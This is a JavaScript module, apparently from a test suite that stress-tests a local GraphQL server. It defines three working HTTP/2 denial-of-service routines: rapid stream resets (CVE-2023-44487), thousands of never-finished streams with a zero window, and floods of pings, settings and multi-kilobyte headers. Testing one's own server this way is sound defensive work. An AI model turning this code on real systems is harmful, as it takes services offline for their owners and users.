import { connect } from 'node:http2';
import { setTimeout as sleep } from 'node:timers/promises';

const HEADERS = { ':method': 'POST', ':path': '/graphql', 'content-type': 'application/json' };
const BODY = '{"query":"{search(query:\\"talks or summit or treaty\\"){totalCount}}"}';

/** A connection by prior knowledge (RFC 9113, section 3.3). Where the server has none of it, it is closed at once. */
function session(client, settings = {}) {
  return new Promise((resolve) => {
    const one = connect(`http://127.0.0.1:${client.port}`, { localAddress: client.address, ...settings });
    one.on('error', (problem) => {
      client.count('', problem.code ?? 'error');
      resolve(null);
    });
    one.on('close', () => client.count('', 'closed'));
    one.on('goaway', (code) => client.count('', `goaway ${code}`));
    one.once('remoteSettings', () => resolve(one));
    setTimeout(() => resolve(null), 2_000).unref();
  });
}

function stream(client, session, headers = HEADERS) {
  const one = session.request(headers);
  one.on('error', (problem) => client.count('', problem.code ?? 'error'));
  one.on('response', (answer) => client.count('', String(answer[':status'])));
  return one;
}

export const abuses = [
  {
    name: 'http2-resets',
    about: 'HTTP/2 streams that ask and are reset at once, on 10 connections (CVE-2023-44487)',
    run: (client) => client.repeat(10, async () => {
      const one = await session(client);
      if (!one) return null;
      while (!client.over && !one.destroyed && !one.closed) {
        for (let i = 0; i < 50 && !one.destroyed && !one.closed; i++) {
          const asked = stream(client, one);
          asked.end(BODY);
          asked.close(8);
        }
        await sleep(1);
      }
      return {};
    }),
  },
  {
    name: 'http2-unfinished',
    about: '1,000 HTTP/2 streams on each of 10 connections with bodies that never end, and no window for answers',
    run: (client) => client.repeat(10, async () => {
      const one = await session(client, { settings: { initialWindowSize: 0 } });
      if (!one) return null;
      for (let i = 0; i < 1_000 && !one.destroyed && !one.closed && !client.over; i++) {
        const asked = stream(client, one, { ...HEADERS, 'content-length': '1000000' });
        asked.write('{"query":"'.padEnd(16_000, 'a'));
        if (i % 50 === 0) await sleep(1);
      }
      await client.wait();
      return {};
    }),
  },
  {
    name: 'http2-settings-and-pings',
    about: 'HTTP/2 settings, pings and headers of many kilobytes as fast as they are taken, on 10 connections',
    quick: false,
    run: (client) => client.repeat(10, async (n) => {
      const one = await session(client, { maxOutstandingPings: 10_000, maxOutstandingSettings: 10_000 });
      if (!one) return null;
      while (!client.over && !one.destroyed && !one.closed) {
        for (let i = 0; i < 100 && !one.destroyed && !one.closed; i++) {
          if (n % 3 === 0) one.ping(() => {});
          else if (n % 3 === 1) one.settings({ maxConcurrentStreams: i });
          else stream(client, one, { ...HEADERS, [`x-${client.unique().replace('_', '-')}`]: 'a'.repeat(7_000) }).end(BODY);
        }
        await sleep(1);
      }
      return {};
    }),
  },
];
